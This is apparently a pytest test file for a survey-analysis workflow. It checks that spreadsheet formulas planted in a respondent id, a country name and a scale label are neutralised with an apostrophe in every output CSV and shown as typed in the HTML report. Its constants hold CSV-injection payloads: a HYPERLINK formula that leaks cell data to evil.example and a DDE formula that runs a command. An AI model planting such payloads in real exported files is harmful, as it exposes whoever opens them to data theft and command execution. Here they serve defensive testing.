"""Spreadsheet formulas planted in the inputs (a respondent id, a country name, a scale label) come
out neutralised in every CSV of a run (surveysem.io.write_csv), while the report, reading the
CSVs back through surveysem.io.read_csv, shows them as they were typed."""

from __future__ import annotations

import csv
import html
import re

import pytest
import yaml

from conftest import SMALL_CONFIG, SNAKEMAKE, run, workflow_copy
from surveysem.io import CODE_VOCABULARY, FORMULA_STARTS

RESPONDENT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
COUNTRY = "=cmd|'/C calc'!A0"
LABEL = '=HYPERLINK("http://evil.example","Capability")'
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\**")


def executable(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (OWASP: first character = + - @ tab CR.)"""
    return bool(cell) and cell[0] in FORMULA_STARTS and cell not in CODE_VOCABULARY and not NUMBER.fullmatch(cell)


def plant(work):
    """The small test config with the three payloads planted; returns the planted respondent's
    original id."""
    survey = work / ".test/data/survey_small_synthetic.csv"
    with open(survey, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    rid, markets = header.index("ResponseId"), header.index("MARKETS")
    first = 3  # Qualtrics: two header rows below the column names
    original = rows[first][rid]
    rows[first][rid] = RESPONDENT
    for row in rows[first:first + 10]:  # a foreign market of ten firms, entered a year after the first one
        years = re.findall(r"\((\d{4})\)", row[markets])
        if years:
            row[markets] = f"{COUNTRY} ({years[0]}); " + row[markets] if row[markets] else row[markets]
    with open(survey, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    regions = work / ".test/scales/regions.csv"
    with open(regions, "a", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerow([COUNTRY, "Rest of Europe", "Europe"])
    scale = work / ".test/scales/capabilities/PDC.yaml"
    text = scale.read_text(encoding="utf-8")
    doc = yaml.safe_load(text)
    text = re.sub(r"(?m)^label:.*$", "label: " + yaml.safe_dump(LABEL, default_style="'").strip(), text, count=1)
    assert yaml.safe_load(text)["label"] == LABEL and doc["label"] != LABEL
    scale.write_text(text, encoding="utf-8")
    return original


@pytest.fixture(scope="module")
def planted_run(tmp_path_factory):
    work = workflow_copy(tmp_path_factory.mktemp("planted"))
    plant(work)
    proc = run([SNAKEMAKE, "--cores", "2", "--configfile", SMALL_CONFIG], work)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-6000:]
    return work


def cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            yield from row


def test_no_csv_of_the_run_holds_a_cell_a_spreadsheet_would_execute(planted_run):
    files = sorted((planted_run / "results").rglob("*.csv"))
    assert len(files) > 40
    bad = [(str(p.relative_to(planted_run)), c) for p in files for c in cells(p) if executable(c)]
    assert bad == []


@pytest.mark.parametrize("payload, where", [
    (RESPONDENT, ["results/clean/validated.csv", "results/clean/analysis.csv", "results/scores/scale_scores.csv",
                  "results/outcomes/firm_outcomes.csv"]),
    (COUNTRY, ["results/clean/validated.csv", "results/clean/analysis.csv"]),
    (LABEL, ["results/codebook.csv", "results/tables/measurement_scales.csv"]),
])
def test_planted_values_come_out_with_an_apostrophe(planted_run, payload, where):
    for name in where:
        found = list(cells(planted_run / name))
        assert any(c.startswith("'" + payload) or ("'" + payload) in c for c in found), name
        assert not any(c.startswith(payload) for c in found), name


def test_the_report_shows_the_values_as_typed(planted_run):
    pages = "".join(p.read_text(encoding="utf-8") for p in (planted_run / "reports").glob("*.html"))
    text = html.unescape(pages)
    assert LABEL in text
    assert "'" + LABEL not in text and "'" + RESPONDENT not in text and "'" + COUNTRY not in text


def test_the_planted_respondent_keeps_its_id_between_stages(planted_run):
    """Scores and outcomes are joined by respondent id after both were read back: the planted id
    is one respondent in every file, not one per spelling."""
    from surveysem.io import read_csv

    scores = read_csv(planted_run / "results/scores/scale_scores.csv", dtype={"respondent_id": str})
    outcomes = read_csv(planted_run / "results/outcomes/firm_outcomes.csv", dtype={"respondent_id": str})
    analysis = read_csv(planted_run / "results/clean/analysis.csv", dtype={"respondent_id": str})
    for frame in (scores, outcomes, analysis):
        assert (frame["respondent_id"] == RESPONDENT).sum() == 1
    assert set(scores["respondent_id"]) == set(outcomes["respondent_id"]) == set(analysis["respondent_id"])
